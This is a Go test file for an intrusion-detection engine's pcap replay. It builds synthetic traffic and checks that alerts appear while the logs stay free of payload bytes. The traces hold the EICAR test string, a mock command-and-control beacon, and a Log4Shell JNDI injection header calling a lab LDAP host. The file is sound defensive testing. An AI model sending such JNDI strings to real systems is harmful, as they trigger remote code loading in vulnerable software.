package replay

import (
	"bufio"
	"bytes"
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/gopacket/layers"
	"github.com/openutm/utm/dataplane/engine"
	"github.com/openutm/utm/dataplane/internal/testpcap"
	"github.com/openutm/utm/signatures/bundle"
	"github.com/openutm/utm/telemetry/alert"
	"github.com/openutm/utm/telemetry/eve"
)

var update = flag.Bool("update", false, "rewrite testdata/*.pcap and *.golden.json")

// eicar is the standard antivirus test file, assembled so this source file
// is not itself flagged by scanners.
var eicar = []byte(`X5O!P%@AP[4\PZX54(P^)7CC)7}$` + `EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*`)

// canary is planted in every payload: it must never reach eve.json.
const canary = "CANARY-replay-5e1f"

var start = time.Date(2026, 11, 23, 9, 0, 0, 0, time.UTC)

func httpResponse(body []byte, extra string) []byte {
	return []byte(fmt.Sprintf("HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Length: %d\r\nX-Note: %s\r\n%s\r\n", len(body), canary, extra) + string(body))
}

func dnsMsg(id uint16, name string, answer string) []byte {
	d := &layers.DNS{ID: id, RD: true, Questions: []layers.DNSQuestion{{Name: []byte(name), Type: layers.DNSTypeA, Class: layers.DNSClassIN}}}
	if answer != "" {
		d.QR, d.RA = true, true
		d.Answers = []layers.DNSResourceRecord{{Name: []byte(name), Type: layers.DNSTypeA, Class: layers.DNSClassIN, TTL: 300, IP: netIP(answer)}}
	}
	return serializeDNS(d)
}

// cases are the golden replays: a pcap each, written with -update.
var cases = []struct {
	name    string
	framing testpcap.Framing
	build   func(t *testpcap.Trace)
}{
	{"http-eicar", testpcap.Ethernet, func(t *testpcap.Trace) {
		c := t.NewTCP("198.18.1.2:40001", "198.18.2.2:80").Handshake()
		c.Client([]byte("GET /eicar.com HTTP/1.1\r\nHost: www.lab.test\r\nX-Note: "+canary+"\r\n\r\n"), 0)
		c.Server(httpResponse(eicar, ""), 0)
		c.Close()
	}},
	{"dns-cnc", testpcap.RawIP, func(t *testpcap.Trace) {
		t.UDP("198.18.1.2:53001", "198.18.2.53:53", dnsMsg(0x1234, "cnc.utm-lab.test", ""))
		t.UDP("198.18.2.53:53", "198.18.1.2:53001", dnsMsg(0x1234, "cnc.utm-lab.test", "198.18.2.66"))
		c := t.NewTCP("198.18.1.2:40002", "198.18.2.66:80").Handshake()
		c.Client([]byte("GET /beacon HTTP/1.1\r\nHost: cnc.utm-lab.test\r\n\r\n"+canary), 0)
	}},
	{"http-log4shell", testpcap.LinuxSLL, func(t *testpcap.Trace) {
		c := t.NewTCP("198.18.1.2:40003", "198.18.2.2:80").Handshake()
		c.Client([]byte("GET /search?q=1 HTTP/1.1\r\nHost: www.lab.test\r\nX-Api-Version: ${jndi:ldap://198.18.2.66/"+canary+"}\r\n\r\n"), 0)
		c.Server(httpResponse([]byte("never sent"), ""), 0)
	}},
	{"http-benign", testpcap.Ethernet, func(t *testpcap.Trace) {
		body := bytes.Repeat([]byte("benign page "+canary+"\n"), 8000)
		c := t.NewTCP("198.18.1.2:40004", "198.18.2.2:80").Handshake()
		c.Client([]byte("GET /index.html HTTP/1.1\r\nHost: www.lab.test\r\n\r\nGET /chunked HTTP/1.1\r\nHost: www.lab.test\r\n\r\n"), 0)
		c.Server(httpResponse(body, ""), 1400)
		c.Server([]byte("HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n"+fmt.Sprintf("%x\r\n%s\r\n0\r\n\r\n", len(canary), canary)), 0)
		c.Close()
	}},
	{"malformed", testpcap.RawIP, func(t *testpcap.Trace) {
		t.Raw([]byte{0x45, 0x00, 0x00})                                                // truncated IPv4 header
		t.Raw([]byte{0x75, 0, 0, 20, 0, 0, 0, 0, 64, 6, 0, 0, 1, 2, 3, 4, 5, 6, 7, 8}) // version 7
		ok := testpcap.IP(mustAddr("198.18.1.2"), mustAddr("198.18.2.2"), layers.IPProtocolTCP,
			&layers.TCP{SrcPort: 1, DstPort: 80, DataOffset: 5, SYN: true}, nil)
		bad := append([]byte(nil), ok...)
		bad[20+12] = 0x20 // TCP data offset 2 (< 5)
		t.Raw(bad)
		c := t.NewTCP("198.18.1.2:40005", "198.18.2.2:80").Handshake()
		c.Client([]byte("GET /after-junk HTTP/1.1\r\nHost: www.lab.test\r\n\r\n"), 0)
		c.Server(httpResponse([]byte(canary), ""), 0)
		c.Close()
	}},
}

func TestGolden(t *testing.T) {
	b, err := bundle.Default()
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			pcap := filepath.Join("testdata", c.name+".pcap")
			golden := filepath.Join("testdata", c.name+".golden.json")
			got, res, eng := replayTrace(t, b, pcap, c.framing, c.build)
			if c.name == "malformed" {
				st := eng.Stats()
				if n := st.Malformed.Load() + st.Truncated.Load() + st.Unsupported.Load(); n != 3 {
					t.Fatalf("counted %d malformed packets, want 3", n)
				}
			}
			t.Logf("%s: %+v, engine %v", c.name, res, eng.Counters())
			compareGolden(t, golden, got)
		})
	}
}

// checkEvents parses every line into the alert model and rejects unknown
// fields: eve.json holds nothing the model does not define.
func checkEvents(t *testing.T, b []byte) {
	t.Helper()
	sc := bufio.NewScanner(bytes.NewReader(b))
	for sc.Scan() {
		var ev alert.Event
		d := json.NewDecoder(strings.NewReader(sc.Text()))
		d.DisallowUnknownFields()
		if err := d.Decode(&ev); err != nil {
			t.Fatalf("eve line %q: %v", sc.Text(), err)
		}
		if err := ev.Validate(); err != nil {
			t.Fatalf("eve line %q: %v", sc.Text(), err)
		}
	}
}

// replayTrace rewrites pcap from build when -update is given, replays it
// through a fresh engine into eve.json and returns eve.json, checked to
// hold only model fields and no payload bytes.
func replayTrace(t *testing.T, b *bundle.Bundle, pcap string, fr testpcap.Framing, build func(*testpcap.Trace)) ([]byte, Result, *engine.Engine) {
	t.Helper()
	if *update {
		tr := testpcap.NewTrace(start)
		build(tr)
		if err := testpcap.WritePcap(pcap, fr, tr.Sorted()); err != nil {
			t.Fatal(err)
		}
	}
	out := filepath.Join(t.TempDir(), "eve.json")
	w, err := eve.Create(out)
	if err != nil {
		t.Fatal(err)
	}
	eng := engine.New(engine.Config{Sink: w}, b)
	res, err := File(pcap, eng)
	if err != nil {
		t.Fatal(err)
	}
	w.Close()
	got, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	if bytes.Contains(got, []byte(canary)) || bytes.Contains(got, []byte("jndi")) {
		t.Fatalf("eve.json carries payload bytes (canary or exploit string):\n%s", got)
	}
	checkEvents(t, got)
	return got, res, eng
}

// compareGolden writes got to golden with -update, else compares them.
func compareGolden(t *testing.T, golden string, got []byte) {
	t.Helper()
	if *update {
		if err := os.WriteFile(golden, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(golden)
	if err != nil {
		t.Fatalf("%v (run go test ./dataplane/replay -update to create it)", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("eve.json differs from %s (if the change is intended, rerun with -update)\n--- got\n%s\n--- want\n%s", golden, got, want)
	}
}
